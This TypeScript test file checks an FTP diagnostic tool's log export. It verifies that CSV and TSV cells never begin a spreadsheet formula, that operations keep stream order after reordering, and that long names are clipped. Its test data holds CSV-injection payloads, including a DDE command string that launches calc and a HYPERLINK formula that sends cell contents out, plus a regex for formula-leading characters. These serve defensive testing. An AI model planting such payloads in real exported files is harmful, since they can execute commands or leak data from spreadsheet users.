// The operation log with hostile wire strings: a value a spreadsheet would evaluate never starts
// a CSV or TSV cell (OWASP, CSV injection), operations keep the stream order when segments were
// captured out of order, and a 7,000-character name is clipped in the table and in prose while
// the JSON keeps it whole.

import { expect } from 'chai';
import { TraceBuilder } from '../../src/craft/trace-builder.ts';
import { cli } from '../support/cli.ts';
import { scratchDir } from '../support/crafted-sessions.ts';

const HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\uff1d1+1', 'a;=1+1'];

/** A session whose user, file names, password and replies start formulas. */
function formulas(): TraceBuilder {
  const t = new TraceBuilder();
  const c = t.tcp({ client: '192.0.2.1:40000', server: '198.51.100.2:21' });
  c.handshake();
  c.server('PA', '220 ready\r\n');
  c.client('PA', `USER ${HOSTILE[0]}\r\n`);
  c.server('PA', '331 password\r\n');
  c.client('PA', 'PASS =pw+1\r\n');
  c.server('PA', '230 ok\r\n');
  for (const h of HOSTILE) {
    c.client('PA', `DELE ${h}\r\n`);
    c.server('PA', `550 ${h}\r\n`);
  }
  c.client('PA', `${HOSTILE[3]}\r\n`); // an unknown "verb" (log --all lists it)
  c.server('PA', '500 what?\r\n');
  c.close();
  return t;
}

/** RFC 4180 cells of a CSV text (quoted fields, doubled quotes, CRLF records). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

describe('report/log: hostile strings, order and size', function () {
  this.timeout(30_000);
  const tmp = scratchDir('ftpdiag-i21-log-');
  after(() => tmp.remove());

  it('no CSV or TSV cell starts a formula; NDJSON keeps the raw values', async () => {
    const trace = tmp.file('formulas.pcap');
    formulas().writePcap(trace);
    const starts = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
    const csv = await cli(['log', '--all', '--show-passwords', '--format', 'csv', trace]);
    const tsv = await cli(['log', '--all', '--show-passwords', '--format', 'tsv', trace]);
    const tables = { csv: csvCells(csv.out), tsv: tsv.out.trimEnd().split('\n').map((l) => l.split('\t')) };
    for (const [name, rows] of Object.entries(tables)) {
      expect(rows.length, name).to.be.greaterThan(HOSTILE.length);
      for (const row of rows) {
        expect(row, name).to.have.length(rows[0]!.length);
        for (const cell of row) expect(cell, `${name}: ${JSON.stringify(cell)}`).to.not.match(starts);
      }
      // the apostrophe is the only change
      const cells = rows.flat();
      for (const h of HOSTILE.slice(0, 5)) expect(cells, name).to.include(`'${h}`);
      expect(cells, name).to.include("'=pw+1");
    }
    // a semicolon field is quoted in CSV: spreadsheets that split on ';' see one cell
    expect(csv.out).to.include('"a;=1+1"');
    const nd = (await cli(['log', '--all', '--format', 'ndjson', trace])).out.trim().split('\n').map((l) => JSON.parse(l));
    expect(nd.map((o: { arg?: string }) => o.arg)).to.include.members(HOSTILE.slice(0, 5));
  });

  it('operations keep the stream order when a command was captured after the ones that follow it', async () => {
    const t = new TraceBuilder();
    const c = t.tcp({ client: '192.0.2.1:40000', server: '198.51.100.2:21' });
    c.handshake();
    c.server('PA', '220 ready\r\n');
    const cwdSeq = c.nextSeq('client');
    c.lose('client', 'CWD /in\r\n'); // lost before the capture point, retransmitted below
    c.client('PA', 'DELE a.txt\r\n');
    c.client('PA', 'CWD /in\r\n', { seq: cwdSeq, noAdvance: true, dt: 0.2 });
    c.server('PA', '250 CWD ok\r\n250 DELE ok\r\n');
    c.close();
    const trace = tmp.file('reordered.pcap');
    t.writePcap(trace);
    const rows = (await cli(['log', '--format', 'tsv', trace])).out.trim().split('\n').slice(1).map((l) => l.split('\t'));
    expect(rows.map((r) => [r[9], r[12]])).to.deep.equal([['CWD', '/in'], ['DELE', '/in/a.txt']]);
  });

  it('a 7,000-character name: table cells and report prose clipped, JSON whole', async () => {
    const name = `${'n'.repeat(6990)}.csv`;
    const t = new TraceBuilder();
    const c = t.tcp({ client: '192.0.2.1:40000', server: '198.51.100.2:21' });
    c.handshake();
    c.server('PA', '220 ready\r\n');
    c.client('PA', `USER ${'u'.repeat(7000)}\r\n`);
    c.server('PA', '331 pw\r\n');
    c.client('PA', 'PASS x\r\n');
    c.server('PA', '230 ok\r\n');
    c.client('PA', `RETR ${name}\r\n`);
    c.server('PA', `550 ${name}: No such file\r\n`);
    c.close();
    const trace = tmp.file('long.pcap');
    t.writePcap(trace);
    const longest = (text: string) => Math.max(...text.split('\n').map((l) => [...l].length));
    for (const args of [['log', trace], ['log', '--all', trace], ['analyze', '--fail-on', 'none', trace]]) {
      const r = await cli(args);
      expect(longest(r.out), args.join(' ')).to.be.at.most(200);
    }
    const json = JSON.parse((await cli(['analyze', '--json', trace])).out);
    expect(json.transfers[0].argument).to.equal(name);
    const f = json.findings.find((x: { id: string }) => x.id === 'file-unavailable');
    expect(f.summary.length).to.be.below(400);
    expect(f.summary).to.match(/^RETR n+…n+\.csv \(frame \d+\) was answered 550 n+…n+\.csv: No such file \(frame/);
  });
});
